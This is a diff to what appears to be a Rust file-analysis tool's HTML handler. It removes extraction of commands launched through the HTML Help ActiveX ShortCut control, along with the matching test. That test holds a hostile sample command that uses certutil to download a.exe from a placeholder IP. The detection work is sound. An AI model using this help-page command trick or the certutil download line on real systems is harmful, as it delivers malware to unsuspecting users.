@@ -66,42 +66,7 @@ pub(super) fn run(artifact: &Artifact, nest: &mut Nest<'_>) -> Result<(), Troubl
             nest.push(child.of_kind(Kind::Js))?;
         }
     }
-    help_commands(&source, nest)?;
     inner_pages(&source, nest)
-}
-
-/// Programs that a page of compiled help starts (HTML Help ActiveX control, command ShortCut): `,program,arguments`.
-fn help_commands(source: &str, nest: &mut Nest<'_>) -> Result<(), Trouble> {
-    const CONTROL: &str = "adb880a6-d8ff-11cf-9377-00aa003b7a11";
-    // The digits of the class id that no case changes: most pages are left here.
-    if !source.contains("-9377-00") {
-        return Ok(());
-    }
-    let (mut in_control, mut is_shortcut) = (false, false);
-    for tag in html::tags(source, index(1u32 << 20)) {
-        nest.tick()?;
-        let value = |name: &str| tag.attribute(name).unwrap_or_default();
-        if tag.name == "object" {
-            in_control = value("classid").to_ascii_lowercase().contains(CONTROL);
-            is_shortcut = false;
-        }
-        if tag.name != "param" || !in_control {
-            continue;
-        }
-        let name = value("name").to_ascii_lowercase();
-        if name == "command" {
-            is_shortcut = value("value").trim().eq_ignore_ascii_case("shortcut");
-        } else if name.starts_with("item") && is_shortcut && nest.len() < CHILDREN {
-            // In front of the first comma stands the class of the window to look for.
-            let line = value("value").split_once(',').map_or("", |(_, line)| line);
-            let line = line.replacen(',', " ", 1);
-            if !line.trim().is_empty() {
-                let child = Child::new("help-command", line.trim().as_bytes().to_vec());
-                nest.push(child.of_kind(Kind::Bat))?;
-            }
-        }
-    }
-    Ok(())
 }
 
 /// The longest text between quotes, in bytes of the source.
@@ -227,7 +192,6 @@ fn percent_decoded(text: &str) -> Vec<u8> {
 #[cfg(test)]
 mod tests {
     use super::super::tests::opened;
-    use crate::model::Kind;
 
     #[test]
     fn scripts_that_put_something_together_and_inner_pages_are_children() {
@@ -247,22 +211,5 @@ mod tests {
                 "<html><p>hello</p></html>"
             ]
         );
-    }
-
-    #[test]
-    fn a_program_that_a_help_page_starts_is_a_child() {
-        let page = |command: &str| {
-            format!(
-                "<html><OBJECT id=x classid='clsid:ADB880A6-D8FF-11CF-9377-00AA003B7A11'>\
-                 <PARAM name='Command' value='{command}'><PARAM name='Item1' \
-                 value=',cmd.exe,/c certutil -urlcache -f http://192.0.2.1/a.exe a.exe, b'></OBJECT>"
-            )
-        };
-        let (children, _) = opened("html", page("ShortCut").as_bytes());
-        assert_eq!(children.len(), 1);
-        assert_eq!(children[0].kind, Kind::Bat);
-        assert!(children[0].data.starts_with(b"cmd.exe /c certutil"));
-        let (children, _) = opened("html", page("Related Topics").as_bytes());
-        assert!(children.is_empty());
     }
 }
